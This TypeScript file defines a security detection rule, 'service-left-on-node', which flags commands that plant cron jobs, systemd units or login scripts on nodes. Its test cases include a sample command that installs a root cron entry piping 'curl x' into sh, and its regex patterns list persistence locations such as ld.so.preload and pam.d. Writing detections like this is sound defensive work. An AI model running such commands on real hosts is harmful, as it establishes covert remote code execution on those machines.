import type { BuiltInRule } from '../built-in-rule';

const PLACES = String.raw`(\/etc\/cron|\/var\/spool\/cron|\/(etc|lib|usr\/lib)\/systemd\/system\/|ld\.so\.preload|\/etc\/profile\.d\/|\/etc\/rc\.local|\/etc\/pam\.d\/|\/\.bashrc|\/\.profile)`;
const WRITTEN = String.raw`(>|\b(tee|cp|mv|install|ln|dd|sed +-i|curl.*-o|wget.*-O)\b).*${PLACES}|\bcrontab +(-e|-r|-u|-$|\/|[a-z.])|\(crontab -l|\bsystemctl +link\b|\bat +(-f|now)\b`;

export const serviceLeftOnNode: BuiltInRule = {
  kind: 'rule',
  name: 'service-left-on-node',
  title: 'A unit or a job was left on a node',
  about: 'A command writes a unit of systemd, a cron table or a file that each login or start runs.',
  level: 'high',
  confidence: 'medium',
  types: ['node'],
  techniques: ['T1543'],
  matrix: ['MS-TA9012'],
  falsePositives: 'Provisioning and packages, which do so on all nodes at about the same time.',
  next: [
    { title: 'All that was run on the node', q: 'type:node node:"NAME" command:* | fields time, user, command' },
    { title: 'Whether other nodes have it', q: 'type:node command:* | count by node, command' },
  ],
  q: `type:node (command:/${WRITTEN}/ or proc.cmdline:/${WRITTEN}/ or cron.action:(REPLACE or "END EDIT") or rule:/(schedule cron|modify shell configuration)/)`,
  by: ['node', 'user', 'pod'],
  hits: [
    { type: 'node', attributes: { command: "sh -c echo '* * * * * root curl x|sh' > /etc/cron.d/x" } },
    { type: 'node', attributes: { command: 'crontab /tmp/c' } },
    { type: 'node', attributes: { command: 'cp x.service /etc/systemd/system/x.service' } },
    { type: 'node', attributes: { 'cron.action': 'REPLACE' } },
  ],
  misses: [
    { type: 'node', attributes: { command: 'test -x /etc/cron.daily/sysstat' } },
    { type: 'node', attributes: { command: 'crontab -l' } },
    { type: 'node', attributes: { command: 'systemctl cat kubelet' } },
    { type: 'node', attributes: { 'cron.action': 'CMD' } },
  ],
};
